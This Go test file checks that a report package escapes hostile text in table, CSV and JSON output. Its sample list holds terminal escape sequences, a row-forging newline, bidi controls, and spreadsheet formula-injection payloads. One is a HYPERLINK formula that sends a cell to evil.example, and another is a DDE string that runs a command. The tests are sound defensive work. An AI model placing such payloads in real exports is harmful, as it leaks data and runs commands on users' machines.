package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// hostile is text from events that would act on a terminal or a
// spreadsheet if printed raw.
var hostile = []string{
	"\x1b]0;pwned\a\x1b[2J\x1b[H",         // retitles and clears the terminal
	"brand\nforged_row  99  1,000,000.00", // a newline forges a row
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"+cmd|' /C calc'!A0",
	"@SUM(1+1)",
	"-2+3",
	"-1.5", // a number: stays as it is
	"tab\there\rcr",
	"csi\u009b2Jc1",                // C1 control: CSI
	"bad\xffutf8",                  // not UTF-8
	"right\u202eto-left\u2028line", // bidi override, line separator
	"café 東京 > <b>",                // plain text, left alone
}

func hostileResult() *Result {
	res := &Result{Columns: []Column{{Name: "campaign", Kind: Text}, {Name: "delta", Kind: Number}}}
	for _, h := range hostile {
		res.Rows = append(res.Rows, []Value{{S: h}, {F: -1.5}})
	}
	return res
}

func TestEscape(t *testing.T) {
	for in, want := range map[string]string{
		"\x1b]0;pwned\a\x1b[2J": `\x1b]0;pwned\x07\x1b[2J`,
		"a\nb\r\tc\x00\x7f":     `a\nb\r\tc\x00\x7f`,
		"csi\u009b2J":           `csi\u009b2J`,
		"bad\xff\xfeutf8":       `bad\xff\xfeutf8`,
		"rl\u202eo\u2066":       `rl\u202eo\u2066`,
		"café 東京 > <b>":         "café 東京 > <b>",
		`back\slash`:            `back\slash`,
	} {
		if got := escape(in); got != want {
			t.Errorf("escape(%q) = %q, want %q", in, got, want)
		}
	}
}

// A table holds no control character, one line per row, whatever the text.
func TestTableCannotBeForged(t *testing.T) {
	var b bytes.Buffer
	if err := hostileResult().Write(&b, Table); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if n := strings.Count(out, "\n"); n != len(hostile)+2 {
		t.Errorf("%d lines for %d rows: a row was forged:\n%s", n, len(hostile), out)
	}
	for i, r := range strings.TrimSuffix(out, "\n") {
		if r < 0x20 && r != '\n' || r == 0x7f || r >= 0x80 && r <= 0x9f || r == '\u202e' || r == '\u2028' || r == '\uFFFD' {
			t.Errorf("control character %U at byte %d:\n%q", r, i, out)
		}
	}
	for _, want := range []string{`\x1b]0;pwned\x07\x1b[2J\x1b[H`, `brand\nforged_row  99  1,000,000.00`, `csi\u009b2Jc1`, `bad\xffutf8`, "café 東京 > <b>"} {
		if !strings.Contains(out, want) {
			t.Errorf("table lacks %q:\n%s", want, out)
		}
	}
}

// CSV escapes control characters as the table does and neutralises
// formulas (OWASP) unless asked not to; numbers stay numbers.
func TestCSVCannotBeForged(t *testing.T) {
	for _, keep := range []bool{false, true} {
		var b bytes.Buffer
		if err := hostileResult().WriteWith(&b, CSV, Options{CSVFormulas: keep}); err != nil {
			t.Fatal(err)
		}
		if strings.ContainsAny(b.String(), "\x1b\r\a\u009b\u202e") || strings.Count(b.String(), "\n") != len(hostile)+1 {
			t.Errorf("csv holds a control character or a forged line:\n%q", b.String())
		}
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(recs) != len(hostile)+1 {
			t.Fatalf("csv: %d records, %v", len(recs), err)
		}
		got := map[string]string{}
		for _, r := range recs[1:] {
			got[strings.TrimPrefix(r[0], "'")] = r[0]
			if r[1] != "-1.5" {
				t.Errorf("the number -1.5 became %q", r[1])
			}
		}
		for _, c := range []struct {
			cell    string
			formula bool
		}{
			{`=HYPERLINK("http://evil.example/?"&A1,"click")`, true},
			{`+cmd|' /C calc'!A0`, true},
			{"@SUM(1+1)", true},
			{"-2+3", true},
			{"-1.5", false},
			{`tab\there\rcr`, false},
			{`\x1b]0;pwned\x07\x1b[2J\x1b[H`, false},
			{"café 東京 > <b>", false},
		} {
			want := c.cell
			if c.formula && !keep {
				want = "'" + c.cell
			}
			if got[c.cell] != want {
				t.Errorf("CSVFormulas=%v: cell %q written %q, want %q", keep, c.cell, got[c.cell], want)
			}
		}
	}
}

// JSON keeps > < & as they are (no \u003e); JSON escapes controls itself.
func TestJSONNotHTMLEscaped(t *testing.T) {
	res := &Result{Columns: []Column{{Name: "path", Kind: Text}}, Rows: [][]Value{{{S: "email > paid_search & <b>"}}, {{S: "\x1b[2J"}}}}
	var b bytes.Buffer
	if err := res.Write(&b, JSON); err != nil {
		t.Fatal(err)
	}
	want := "[\n  {\"path\": \"email > paid_search & <b>\"},\n  {\"path\": \"\\u001b[2J\"}\n]\n"
	if b.String() != want {
		t.Errorf("json:\n%s\nwant:\n%s", b.String(), want)
	}
}

// Ratios print as ratios, percentages with %.
func TestRatioAndPercent(t *testing.T) {
	res := &Result{Columns: []Column{{Name: "assist_ratio", Kind: Ratio}, {Name: "ctr", Kind: Percent}},
		Rows: [][]Value{{{F: 1.5}, {F: 0.0125}}, {{F: 1234.5}, {Null: true}}}}
	var b bytes.Buffer
	res.Write(&b, Table)
	want := "assist_ratio    ctr\n------------  -----\n        1.50  1.25%\n    1,234.50      -\n"
	if b.String() != want {
		t.Errorf("table:\n%s\nwant:\n%s", b.String(), want)
	}
}
